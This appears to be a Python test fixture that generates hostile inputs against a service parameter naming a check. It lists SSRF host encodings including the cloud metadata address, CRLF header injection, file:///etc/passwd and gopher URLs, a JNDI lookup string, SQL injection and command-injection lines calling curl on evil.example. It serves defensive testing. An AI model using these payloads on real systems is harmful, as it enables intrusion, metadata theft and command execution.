"""What an attacker writes where a check is to be named: none of it may lead anywhere."""

from urllib.parse import quote

HOSTS = (
    "127.0.0.1",
    "127.1",
    "2130706433",
    "0x7f000001",
    "0177.0.0.1",
    "0x7f.0x0.0x0.0x1",
    "127.000.000.001",
    "0",
    "0.0.0.0",
    "[::1]",
    "[::]",
    "[::ffff:127.0.0.1]",
    "[::ffff:7f00:1]",
    "[0:0:0:0:0:ffff:127.0.0.1]",
    "[64:ff9b::7f00:1]",
    "[fe80::1%25lo]",
    "localhost",
    "LOCALHOST.",
    "localhost.localdomain",
    "169.254.169.254",
    "metadata.google.internal",
    "evil.example",
    "contoso.com.evil.example",
    "xn--fiqs8s.example",
    "\N{FULLWIDTH DIGIT ONE}27.0.0.1",
    "\N{CIRCLED DIGIT ONE}27.0.0.1",
    "127\N{IDEOGRAPHIC FULL STOP}0\N{IDEOGRAPHIC FULL STOP}0\N{IDEOGRAPHIC FULL STOP}1",
    "cont\N{CYRILLIC SMALL LETTER O}so.com",
    "contoso\N{ZERO WIDTH SPACE}.com",
    "\N{RIGHT-TO-LEFT OVERRIDE}moc.osotnoc",
)
SHAPES = (
    "{host}",
    "{host}:{port}",
    "http://{host}:{port}/",
    "contoso/domain/{host}/spf",
    "contoso.com@{host}:{port}",
    "contoso/domain/contoso.com/spf@{host}:{port}",
)
KNOWN = "contoso/domain/contoso.com/spf"
TRICKS = (
    "../" + KNOWN,
    "./" + KNOWN,
    "/" + KNOWN,
    KNOWN + "/",
    KNOWN + "/..",
    KNOWN + "//",
    KNOWN + "?",
    KNOWN + "#",
    KNOWN + ";",
    KNOWN + " ",
    " " + KNOWN,
    KNOWN + "\x00",
    "\x00" + KNOWN,
    KNOWN + "\r\n",
    KNOWN + "\r\nHost: evil.example",
    KNOWN + "\n\nGET / HTTP/1.1",
    KNOWN.upper(),
    KNOWN.replace("/", "//"),
    KNOWN.replace("/", "\\"),
    KNOWN.replace("/", "%2F"),
    KNOWN.replace("contoso.com", "*"),
    KNOWN.replace("contoso.com", "."),
    KNOWN.replace("contoso.com", "contoso.com."),
    KNOWN.replace("contoso.com", "contoso.com\x00.evil.example"),
    KNOWN.replace("contoso", "\ufeffcontoso", 1),
    "contoso/domain/contoso.com/none",
    "x" * 4000,
    "/" * 500,
    "\x1b[31m" + KNOWN,
    "file:///etc/passwd",
    "gopher://127.0.0.1:{port}/_x",
    "dict://127.0.0.1:{port}/",
    "ldap://127.0.0.1:{port}/",
    "mailto:victim@evil.example",
    "{{7*7}}",
    "${jndi:ldap://evil.example/}",
    "$(curl evil.example)",
    "`curl evil.example`",
    "' OR 1=1 --",
    "%00",
    "null",
    "0",
)


def targets(port: int) -> list[str]:
    """Return the values, with *port* of a trap where they name one."""
    hosts = [shape.format(host=host, port=port) for host in HOSTS for shape in SHAPES]
    return [*hosts, *(trick.replace("{port}", str(port)) for trick in TRICKS)]


def queries(port: int) -> list[str]:
    """Return whole queries that try the same by other parameters."""
    return [
        "",
        "check=",
        f"target=127.0.0.1:{port}",
        f"module=http_2xx&target=127.0.0.1:{port}",
        f"check={KNOWN}&target=127.0.0.1:{port}",
        f"check={KNOWN}&check=127.0.0.1:{port}",
        f"check={KNOWN}&debug=1",
        f"check={KNOWN}&debug=true&debug=false",
        f"check[]={KNOWN}",
        f"CHECK={KNOWN}",
        f"check%00={KNOWN}",
        f"check={KNOWN}&hostname=127.0.0.1",
        f"{KNOWN}",
        *(f"check={quote(KNOWN, safe='')}{end}" for end in ("%0d%0a", "%00", "%20", "%ff", "&&x")),
    ]
